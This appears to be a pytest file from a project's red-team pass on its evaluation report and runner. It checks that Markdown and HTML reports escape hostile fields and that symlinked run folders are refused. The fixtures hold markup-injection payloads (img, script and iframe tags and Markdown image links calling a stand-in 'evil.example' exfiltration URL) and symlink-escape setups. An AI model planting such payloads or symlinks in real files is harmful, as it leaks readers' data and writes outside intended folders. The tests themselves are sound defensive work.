"""Red-team pass on rlm eval's files (rt-a): a results file from someone else's run names
tasks, methods, families, models and answers; the report shows each as text, never as
markup a Markdown or HTML viewer acts on (a remote image that loads is an exfiltration)."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from rlm_runtime.eval.report import build_report

EXFIL = "https://evil.example/leak?k=SECRET"


def _hostile_run(folder: Path) -> None:
    folder.mkdir()
    record = {"task_id": f"t1 <img src='{EXFIL}'>", "method": f"rlm ![m]({EXFIL})", "family": "f <script>x</script>",
              "model": f"m [click]({EXFIL}) <iframe src={EXFIL}>", "score": 1, "correct": True, "input_tokens": 10,
              "answer": f"![alt]({EXFIL}) and <img src={EXFIL}> and [ref]: {EXFIL}", "gold": f"![g]({EXFIL})"}
    (folder / "results.jsonl").write_text(json.dumps(record) + "\n")


def test_the_markdown_report_shows_hostile_fields_as_text(tmp_path: Path) -> None:
    """It writes no image, link or raw HTML tag a results file's fields hold into report.md."""
    _hostile_run(tmp_path / "run")
    md = build_report(tmp_path / "run").markdown.read_text()
    markup = re.compile(r"(?<!\\)(<img|<script|<iframe|!\[(?!accuracy|tokens)|\]\(https)")
    assert not markup.search(md), markup.search(md)
    assert "evil.example" in md  # shown, as text


def test_the_html_report_shows_hostile_fields_as_text(tmp_path: Path) -> None:
    """It escapes every field of a hostile results line in report.html."""
    _hostile_run(tmp_path / "run")
    page = build_report(tmp_path / "run").html.read_text()
    assert "<img src=" not in page.replace("<img alt='", "") and "<script>" not in page and "<iframe" not in page



def _bundle(tmp_path: Path) -> tuple[Path, Path]:
    bundle = tmp_path / "bundle"
    bundle.mkdir()
    (bundle / "doc.txt").write_text("the code is 42\n")
    (bundle / "tasks.jsonl").write_text(json.dumps({"id": "t1", "question": "what is the code?", "context": "doc.txt",
                                                    "answer": "42"}) + "\n")
    script = tmp_path / "script.jsonl"
    script.write_text(json.dumps({"content": "```python\nFINAL('42')\n```"}) + "\n")
    return bundle, script


@pytest.mark.parametrize("planted", ["eval-runs", "eval-runs/tasks"])
def test_a_run_folder_planted_as_a_symlink_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, planted: str) -> None:
    """It refuses a default run folder (eval-runs/TASKS under the current folder) that a bundle planted as a symlink out."""
    from rlm_runtime.errors import ConfigError
    from rlm_runtime.eval.runner import EvalConfig, Runner
    from rlm_runtime.eval.tasks import load_tasks

    bundle, script = _bundle(tmp_path)
    public = tmp_path / "public"  # a shared or served folder; or the person's home
    public.mkdir(mode=0o755)
    link = bundle / planted
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(public if planted == "eval-runs/tasks" else public, target_is_directory=True)
    monkeypatch.chdir(bundle)
    runner = Runner(EvalConfig(model=f"scripted:{script}", methods=("rlm",), out=Path("eval-runs") / "tasks"),
                    load_tasks(bundle / "tasks.jsonl"))
    with pytest.raises(ConfigError, match="symlink"):
        runner.run()
    assert list(public.iterdir()) == [] and public.stat().st_mode & 0o777 == 0o755


def test_a_suite_run_writes_no_task_file_through_a_planted_symlink(tmp_path: Path, _rlm_home: Path) -> None:
    """It refuses rlm eval SUITE in a folder whose eval-runs/SUITE/tasks is a symlink out, before writing the suite."""
    import os
    import subprocess
    import sys

    bundle, script = _bundle(tmp_path)
    public = tmp_path / "public"
    public.mkdir()
    (bundle / "eval-runs" / "needle").mkdir(parents=True)
    (bundle / "eval-runs" / "needle" / "tasks").symlink_to(public, target_is_directory=True)
    env = {**os.environ, "RLM_HOME": str(_rlm_home)}
    done = subprocess.run([sys.executable, "-m", "rlm_runtime.cli", "eval", "needle", "--model", f"scripted:{script}",
                           "--lengths", "2000", "--n", "1", "--method", "rlm"], capture_output=True, text=True, env=env,
                          cwd=bundle, timeout=120)
    assert done.returncode != 0 and "symlink" in done.stderr and "Traceback" not in done.stderr
    assert list(public.iterdir()) == []
